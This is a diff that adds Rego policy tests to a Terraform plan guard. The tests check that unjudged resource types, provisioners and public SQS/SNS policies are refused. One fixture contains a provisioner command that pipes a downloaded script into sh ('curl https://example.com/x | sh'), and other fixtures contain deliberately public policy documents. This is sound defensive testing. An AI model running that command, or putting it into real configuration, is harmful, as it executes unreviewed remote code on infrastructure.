@@ -909,3 +909,45 @@ test_secret_policy_without_public_block_refused if {
 test_secret_replica_without_our_key_refused if {
 	refused(plan([create("aws_secretsmanager_secret.s", "aws_secretsmanager_secret", {"kms_key_id": key_arn, "replica": [{"region": "eu-central-1", "kms_key_id": null}]})]), "secrets.replica_key", "aws_secretsmanager_secret.s")
 }
+
+# Fail closed on what the rules do not know: a resource type they have not judged is refused,
+# one they have is not refused for its type.
+test_unjudged_type_refused if {
+	p := plan([create("aws_lambda_permission.invoke", "aws_lambda_permission", {"action": "lambda:InvokeFunction", "function_name": "f", "principal": "*"})])
+	refused(p, "plan.unjudged_type", "aws_lambda_permission.invoke")
+}
+
+test_judged_type_not_refused_for_its_type if {
+	p := plan([create("aws_vpc.v", "aws_vpc", {"cidr_block": "10.0.0.0/16"})])
+	not refused(p, "plan.unjudged_type", "aws_vpc.v")
+}
+
+test_unjudged_type_in_a_module_refused if {
+	p := plan([create("module.x.terraform_data.run", "terraform_data", {"input": "x"})])
+	refused(p, "plan.unjudged_type", "module.x.terraform_data.run")
+}
+
+# A provisioner runs a command at apply that no plan shows.
+test_provisioner_refused if {
+	block := object.union(config("aws_s3_bucket.b", "aws_s3_bucket", {}), {"provisioners": [{"type": "local-exec", "expressions": {"command": {"constant_value": "curl https://example.com/x | sh"}}}]})
+	p := plan_with([], {"resources": [block]})
+	refused(p, "plan.provisioner", "aws_s3_bucket.b")
+}
+
+test_no_provisioner_admitted if {
+	p := plan_with([], {"resources": [config("aws_s3_bucket.b", "aws_s3_bucket", {})]})
+	not refused(p, "plan.provisioner", "aws_s3_bucket.b")
+}
+
+# SQS and SNS resource policies are judged like the others: everyone is refused.
+test_public_queue_policy_refused if {
+	doc := json.marshal({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "sqs:SendMessage", "Resource": "*"}]})
+	p := plan([create("aws_sqs_queue_policy.q", "aws_sqs_queue_policy", {"queue_url": "https://sqs.eu-west-1.amazonaws.com/111111111111/q", "policy": doc})])
+	refused(p, "resource_policy.public", "aws_sqs_queue_policy.q")
+}
+
+test_public_topic_refused if {
+	doc := json.marshal({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sns:Subscribe", "Resource": "*"}]})
+	p := plan([create("aws_sns_topic.t", "aws_sns_topic", {"name": "t", "policy": doc})])
+	refused(p, "resource_policy.public", "aws_sns_topic.t")
+}
